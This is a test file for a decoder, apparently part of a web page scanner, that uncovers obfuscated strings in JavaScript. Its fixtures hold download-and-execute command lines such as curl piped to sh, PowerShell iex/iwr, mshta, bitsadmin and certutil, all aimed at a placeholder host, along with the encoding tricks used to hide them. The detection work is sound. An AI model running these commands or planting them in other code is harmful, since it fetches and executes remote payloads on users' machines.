import { describe, expect, it } from 'vitest';

import {
  decodeBase64,
  decodeScriptStrings,
  isMostlyPrintable,
  MAX_DECODED_LENGTH,
  MAX_DECODED_STRINGS,
} from '../../src/engine/page/script-decoding.js';

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string =>
  Array.from(text, (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

describe('decodeScriptStrings', () => {
  it('decodes base64 literals of 16+ characters, and shorter ones only when the code calls atob', () => {
    expect(decodeScriptStrings(`var p = "${b64('mshta https://x.invalid/a')}";`)).toContain(
      'mshta https://x.invalid/a',
    );
    const pieces = `var s = ['${b64('bash')}', '${b64('/bin/sh')}'];`;
    expect(decodeScriptStrings(pieces)).toEqual([]);
    expect(decodeScriptStrings(`${pieces} f(atob(s[0]));`)).toEqual(
      expect.arrayContaining(['/bin/sh']),
    );
  });

  it('does not decode words as short base64 pieces even when atob is used', () => {
    expect(decodeScriptStrings(`atob(x); var a = ['name', 'data', 'true'];`)).toEqual([]);
  });

  it('decodes a UTF-16LE PowerShell -enc payload inside a longer string', () => {
    const encoded = Buffer.from('iex (iwr https://x.invalid/p)', 'utf16le').toString('base64');
    expect(decodeScriptStrings(`var c = "powershell -w h -enc ${encoded}";`)).toContain(
      'iex (iwr https://x.invalid/p)',
    );
  });

  it('decodes base64 passed to FromBase64String inside a template literal', () => {
    const code = `const c = \`powershell "[Convert]::FromBase64String('${b64('iwr https://x.invalid/q | iex')}')"\`;`;
    expect(decodeScriptStrings(code)).toContain('iwr https://x.invalid/q | iex');
  });

  it('resolves \\x, \\u and \\u{…} escapes, keeping only escaped literals', () => {
    const decoded = decodeScriptStrings(
      `var a = ["${hex('requestFullscreen')}", "\\u0063\\u006f\\u0070\\u0079", "\\u{6c}ock", "plain text"];`,
    );
    expect(decoded).toEqual(['requestFullscreen', 'copy', 'lock']);
  });

  it('decodes String.fromCharCode lists in decimal and hex, also through apply', () => {
    expect(
      decodeScriptStrings('x = String.fromCharCode(109, 115, 105, 101, 120, 101, 99);'),
    ).toEqual(['msiexec']);
    expect(decodeScriptStrings('x = String.fromCharCode(0x63,0x75,0x72,0x6c);')).toEqual(['curl']);
    expect(
      decodeScriptStrings('x = String.fromCharCode.apply(null, [119, 103, 101, 116]);'),
    ).toEqual(['wget']);
  });

  it('joins concatenated literals, including base64 chunks', () => {
    expect(decodeScriptStrings(`navigator['clip' + 'board']['write'+'Text'](x);`)).toEqual([
      'clipboard',
      'writeText',
    ]);
    const encoded = b64('curl -fsSL https://x.invalid/i.sh | sh');
    const chunks = `var p = '${encoded.slice(0, 12)}' + '${encoded.slice(12, 30)}' + '${encoded.slice(30)}';`;
    expect(decodeScriptStrings(chunks)).toContain('curl -fsSL https://x.invalid/i.sh | sh');
  });

  it('joins arrays of literals that the code joins, directly or by name', () => {
    expect(decodeScriptStrings(`x = ['pow', 'ersh', 'ell -nop'].join('');`)).toContain(
      'powershell -nop',
    );
    expect(
      decodeScriptStrings(`var parts = ["ms", "hta ", "https:"]; f(parts.join(""));`),
    ).toContain('mshta https:');
    // Not joined anywhere: no string is made up from the list.
    expect(decodeScriptStrings(`var parts = ["ms", "hta ", "https:"]; f(parts[0]);`)).toEqual([]);
  });

  it('reverses a literal or a joined array when the code reverses strings', () => {
    expect(decodeScriptStrings(`x = "exe.llehsrewop".split('').reverse().join('');`)).toContain(
      'powershell.exe',
    );
    const reversed = 'mshta https://x.invalid/a.hta'.split('').reverse().join('');
    const code = `var c = ["${reversed.slice(0, 9)}", "${reversed.slice(9, 18)}", "${reversed.slice(18)}"];
      function b() { return (c.join('')).split('').reverse().join(''); }`;
    expect(decodeScriptStrings(code)).toContain('mshta https://x.invalid/a.hta');
  });

  it('decodes percent-encoded literals', () => {
    expect(decodeScriptStrings(`unescape('%63%6d%64%20%2f%63%20start')`)).toContain('cmd /c start');
  });

  it('decodes base64 found inside a decoded string (second level)', () => {
    const inner = b64('iex (New-Object Net.WebClient).DownloadString($u)');
    expect(decodeScriptStrings(`var x = "${b64(`echo ${inner}`)}";`)).toEqual([
      `echo ${inner}`,
      'iex (New-Object Net.WebClient).DownloadString($u)',
    ]);
  });

  it('skips comments so their quotes do not swallow literals', () => {
    const code = `// don't stop here
      /* it's a comment */ var p = "${b64('bitsadmin /transfer j https://x.invalid/a')}";`;
    expect(decodeScriptStrings(code)).toEqual(['bitsadmin /transfer j https://x.invalid/a']);
  });

  it('skips regular expressions on one minified line (a quote or an escaped // inside)', () => {
    const payload = b64('bitsadmin /transfer j https://x.invalid/a');
    expect(decodeScriptStrings(`var re=/["']/g;var p="${payload}";`)).toEqual([
      'bitsadmin /transfer j https://x.invalid/a',
    ]);
    expect(decodeScriptStrings(`var u=/^https?:\\/\\//;var p="${payload}";`)).toEqual([
      'bitsadmin /transfer j https://x.invalid/a',
    ]);
    // A division is not a regex: the literal after it is still found.
    expect(decodeScriptStrings(`var h=w/2,k=n/3;var p="${payload}";`)).toEqual([
      'bitsadmin /transfer j https://x.invalid/a',
    ]);
  });

  it('keeps scanning after an unterminated literal', () => {
    const code = `var broken = 'it's;\nvar p = "${b64('certutil -urlcache -f https://x.invalid/a')}";`;
    expect(decodeScriptStrings(code)).toEqual(['certutil -urlcache -f https://x.invalid/a']);
  });

  it('returns only printable strings of 4+ characters', () => {
    const binary = Buffer.from([0, 1, 2, 3, 250, 251, 252, 253, 4, 5, 6, 7]).toString('base64');
    expect(decodeScriptStrings(`var a = "${binary}"; var b = "\\x61\\x62";`)).toEqual([]);
  });

  it('bounds the number and length of decoded strings', () => {
    const many = Array.from(
      { length: MAX_DECODED_STRINGS + 50 },
      (_, i) => `"${hex(`item ${i}`)}"`,
    );
    expect(decodeScriptStrings(`var t = [${many.join(',')}];`)).toHaveLength(MAX_DECODED_STRINGS);
    const long = b64('x'.repeat(MAX_DECODED_LENGTH + 300));
    const [decoded] = decodeScriptStrings(`var l = "${long}";`);
    expect(decoded).toHaveLength(MAX_DECODED_LENGTH);
  });

  it('returns nothing for code without hidden strings', () => {
    expect(decodeScriptStrings('')).toEqual([]);
    expect(decodeScriptStrings(`document.querySelector('.copy').textContent = "Copied";`)).toEqual(
      [],
    );
  });
});

describe('decodeBase64 and isMostlyPrintable', () => {
  it('decodes standard and URL-safe base64 to text, and rejects binary', () => {
    expect(decodeBase64(b64('hello world'))).toBe('hello world');
    expect(decodeBase64(Buffer.from('ab?>~~').toString('base64url'))).toBe('ab?>~~');
    expect(decodeBase64(Buffer.from([0, 0, 0, 1, 2, 3]).toString('base64'))).toBeNull();
    expect(decodeBase64('abcde')).toBeNull();
  });

  it('counts printable characters', () => {
    expect(isMostlyPrintable('abc')).toBe(false);
    expect(isMostlyPrintable('ウイルスに感染')).toBe(true);
    expect(isMostlyPrintable('ab\u0000\u0001cd')).toBe(false);
  });
});
